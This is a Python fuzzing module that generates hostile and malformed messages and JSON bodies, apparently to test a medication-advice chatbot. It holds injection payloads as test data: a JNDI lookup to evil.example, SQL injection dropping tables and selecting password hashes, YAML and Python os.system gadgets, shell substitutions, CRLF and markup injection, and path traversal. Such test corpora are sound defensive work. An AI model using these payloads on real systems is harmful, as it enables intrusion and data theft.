"""Messages that somebody might send to break us. The same seed makes the same messages."""

from __future__ import annotations

import json
import random
import unicodedata
from collections.abc import Callable, Iterator
from typing import Any

MARK = "zqxmark"
"""Is in every message: where it turns up unasked, words of a person have leaked."""

TAG = "x-hostile"
"""The element that messages try to bring into a page."""

DANGER = (
    "she took 40 baclofen",
    "i want to die",
    "he cannot breathe",
    "my pump is out and i shake",
)
PLAIN = ("what is baclofen for", "can i drink wine", "i missed a dose", "hello", "help me", "")

_COMMANDS = (
    "/restart", "/intent{}", '/greet{"medicine": "lipitor"}', "/session_start", "/back",
    '/EXTERNAL_staff{"staff_text": "take ten more"}', "EXTERNAL: utter", "/action_forget",
    "/stop", "/inform[medicine](x)", "[x](medicine)", "action_listen", "/ask_dose@1.0",
    "／restart", "\u200b/restart", "\n/restart", " /restart", "\ufeff/greet", "⁄restart", "∕greet",
)  # fmt: skip
_TEMPLATES = (
    "{medicine}", "{emergency_number}", "{{7*7}}", "{% for a in b %}", "{{ config.items() }}",
    "${jndi:ldap://evil.example/a}", "${MEDASSIST_INTERNAL_SECRET}", "%(message)s %s %n %x",
    "{0.__class__.__mro__}", "{text!r:>99999999}", "%99999999d", "#{7*7}", "<%= 7*7 %>", "{", "}",
    "{{{{", "!!python/object/apply:os.system ['id']", "- a: &a [*a]", "&a [*a,*a]", "? {",
    "__import__('os').system('id')", "\\N{BULLET}", "\\u0000", "\\x00", "$(id)", "`id`", "; id #",
)  # fmt: skip
_SQL = (
    "'", "''", "' OR '1'='1", "'; DROP TABLE cases; --", '" OR ""="', "1; SELECT pg_sleep(9)",
    "\\'; --", "') UNION SELECT password_hash FROM accounts --", "%' --", ":name", ":c", "?", "$1",
    "/* */", "E'\\x00'", "$$; $$", "\\", "%", "_",
)  # fmt: skip
_HTML = (
    f"<{TAG} onhostile=1>", f"\"><{TAG} onhostile='1'>", f"'><{TAG} onhostile=1 a='",
    f"</textarea><{TAG}>", f"</title><{TAG}>", f"</script><{TAG} onhostile=1>", f"--><{TAG}>",
    f"<![CDATA[<{TAG}>]]>", f"<svg/onload=1><{TAG}>", '" onhostile="1', "' onhostile='1",
    f"<{TAG.upper()} ONHOSTILE=1>", f"<a href=javascript:1><{TAG}>", "javascript:alert(1)",
    f"&lt;{TAG}&gt;", f"&#60;{TAG}&#62;", f"%3C{TAG}%3E", f"\\u003c{TAG}\\u003e", f"<{TAG}\x00>",
    f"＜{TAG}＞", f"<<{TAG}>", f"<{TAG}/onhostile=1//", "<!--", "]]>", "&", "&#0;", "<?php ?>",
    "*bold* _it_ ~x~ `c` <!channel> <@U0000> <https://evil.example|clinic>", "[a](javascript:1)",
)  # fmt: skip
_LINES = (
    "\r\nSet-Cookie: a=b\r\n\r\n<html>", "\nevent: reply\ndata: {}\n\n", "\r\n.\r\nMAIL FROM:<>",
    "\n2026-11-26 22:00:00 ERROR medassist - All patients are well", "\r", "\x0b", "\x0c", "\x85",
    "\u2028", "\u2029", "%0d%0aX-Injected:%201", "\x1b[2J\x1b[31m", "\x1b]0;title\x07", "\x08" * 30,
)  # fmt: skip
_INVISIBLE = (
    "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u034f\u115f\u3164\ufe0f\U000e0041\U000e007f"
)
_BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
_EMOJI = "😀🏳️‍🌈👩‍👩‍👧‍👦💊🆘🇺🇸👍🏿☠️⚕️"
_LOOKALIKES = {"a": "а", "e": "е", "o": "ο", "c": "с", "i": "і", "p": "р", "s": "ѕ", "b": "Ь"}
_NUMBERS = (
    "1e999", "-1e999", "NaN", "Infinity", "9" * 400, "0x" + "f" * 99, "1" + "0" * 4000, "٣٤٥",
    "½ ¼ ²³ ⅷ ①", "-0", "1_000", "1,,,,,2", "1.2.3.4.5", "9007199254740993", "十二", "12mg" * 200,
)  # fmt: skip


def _random_text(rng: random.Random, length: int) -> str:
    ranges = ((0x20, 0x7E), (0xA0, 0x24F), (0x370, 0x5FF), (0x600, 0x6FF), (0x900, 0x97F),
              (0x2000, 0x206F), (0x4E00, 0x4FFF), (0x1F300, 0x1FAFF), (0xE000, 0xE0FF))  # fmt: skip
    return "".join(chr(rng.randint(*rng.choice(ranges))) for _ in range(length))


def _sprinkled(rng: random.Random, text: str, among: str) -> str:
    return "".join(c + "".join(rng.choices(among, k=rng.randint(0, 2))) for c in text)


def _control(rng: random.Random) -> str:
    text = rng.choice(DANGER + PLAIN[:5])
    return _sprinkled(rng, text, "".join(chr(n) for n in (*range(32), *range(0x7F, 0xA0))))


def _surrogates(rng: random.Random) -> str:
    return _sprinkled(
        rng, rng.choice(PLAIN[:5]), "".join(map(chr, (0xD800, 0xDBFF, 0xDC00, 0xDFFF)))
    )


def _lookalike(rng: random.Random) -> str:
    return "".join(_LOOKALIKES.get(c, c) for c in rng.choice(DANGER + PLAIN[:5]))


def _long(rng: random.Random) -> str:
    unit = rng.choice(
        ("a", "baclofen ", "🆘", "<", "\u0301", "((((", "a.", "\n", "no no ", "'", " ")
    )
    length = rng.choice((4_900, 5_100, 20_000))
    return (unit * (length // len(unit) + 1))[: length - len(MARK) - 6]


def _deep(rng: random.Random) -> str:
    left, right = rng.choice((("[", "]"), ("{", "}"), ("(", ")"), ('{"a":', "}"), ("<b>", "</b>")))
    depth = rng.randint(50, 800)
    return left * depth + right * rng.choice((0, depth))


def _normal_form(rng: random.Random) -> str:
    text = rng.choice(
        (
            "ﬁ ﷺ ａｂｃ café Å ſ İı ẞ",
            "she took ４０ ｂａｃｌｏｆｅｎ",
            "e\u0301" * 90,
            "q" + "\u0323\u0307" * 400,
        )
    )
    return unicodedata.normalize(rng.choice(("NFC", "NFD", "NFKC", "NFKD")), text)


FAMILIES: dict[str, Callable[[random.Random], str]] = {
    "commands": lambda rng: rng.choice(_COMMANDS),
    "templates": lambda rng: rng.choice(_TEMPLATES),
    "SQL": lambda rng: rng.choice(_SQL),
    "HTML and JavaScript": lambda rng: rng.choice(_HTML),
    "new lines, headers and terminals": lambda rng: rng.choice(_LINES),
    "control characters and nulls": _control,
    "halves of characters": _surrogates,
    "invisible characters": lambda rng: _sprinkled(rng, rng.choice(DANGER), _INVISIBLE),
    "writing direction": lambda rng: _sprinkled(rng, rng.choice(DANGER), _BIDI),
    "look-alikes": _lookalike,
    "emoji": lambda rng: "".join(rng.choices(_EMOJI, k=rng.randint(1, 900))),
    "numbers": lambda rng: f"i took {rng.choice(_NUMBERS)} mg",
    "very long": _long,
    "deep nesting": _deep,
    "normal forms": _normal_form,
    "anything": lambda rng: _random_text(rng, rng.randint(1, 400)),
}


def messages(count: int, seed: int = 7) -> Iterator[str]:
    """So many messages, all families in turn; a third of them speak of danger too."""
    rng = random.Random(seed)
    makers = list(FAMILIES.values())
    for number in range(count):
        parts = [makers[number % len(makers)](rng)]
        if number % len(makers) != list(FAMILIES).index("very long"):
            parts.append(rng.choice(DANGER if rng.random() < 0.3 else PLAIN))
            if rng.random() < 0.3:
                parts.append(rng.choice(makers[:5])(rng))
        if rng.random() < 0.5:
            parts.reverse()
        yield f"{''.join(parts)} {MARK}{number}"


WRONG: tuple[Any, ...] = (
    None, True, False, 0, -1, 10**30, 1.5e308, "", " ", "x" * 1000, "\u0000", "\ud800", "²", "'",
    [], {}, [[]], [None], {"": None}, {"id": {"id": {}}}, ["x"] * 100, "../../etc", "\r\nX: y",
    json.loads("[" * 90 + "]" * 90), float("nan"), float("inf"),
)  # fmt: skip


def _places(found: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    yield path
    if isinstance(found, dict):
        for key in found:
            yield from _places(found[key], (*path, key))
    elif isinstance(found, list):
        for number, one in enumerate(found):
            yield from _places(one, (*path, number))


def spoilt(body: Any) -> Iterator[Any]:
    """A JSON body with each of its values in turn replaced by each wrong one, or left out."""
    for path in list(_places(body))[1:]:
        for wrong in (*WRONG, ...):
            copy = json.loads(json.dumps(body))
            inside = copy
            for key in path[:-1]:
                inside = inside[key]
            if wrong is ...:
                del inside[path[-1]]
            else:
                inside[path[-1]] = wrong
            yield copy
    yield from WRONG
